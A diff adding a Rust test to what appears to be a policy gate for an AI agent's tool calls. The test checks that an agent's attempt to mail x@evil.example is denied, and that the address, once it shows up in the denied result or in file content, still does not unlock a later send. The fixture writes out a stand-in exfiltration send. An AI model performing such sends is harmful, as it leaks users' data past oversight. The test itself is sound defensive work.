@@ -43,6 +43,17 @@ fn an_address_that_was_read_is_known_and_one_that_the_agent_planted_is_not() {
 }
 
 #[test]
+fn a_result_of_nothing_that_was_let_through_teaches_nothing() {
+    let mut world = World::new("tidy the folder");
+    let denied = world.action(MAIL, "send_mail", r#"{"to":"x@evil.example","body":"x"}"#);
+    assert_eq!(world.decide(&denied).decided.verdict, Verdict::Deny);
+    world.observe(MAIL, Some(denied.id), "x@evil.example");
+    world.observe(FILES, None, "x@evil.example");
+    let again = world.action(MAIL, "send_mail", r#"{"to":"x@evil.example","body":"y"}"#);
+    assert_eq!(world.decide(&again).decided.verdict, Verdict::Deny);
+}
+
+#[test]
 fn restricted_content_is_cut_out_of_what_goes_outside() {
     let mut world = World::new(TASK);
     let body = r#"{"to":["accounts@vendor.example"],"body":"IBAN DE89370400440532013000 ok?"}"#;
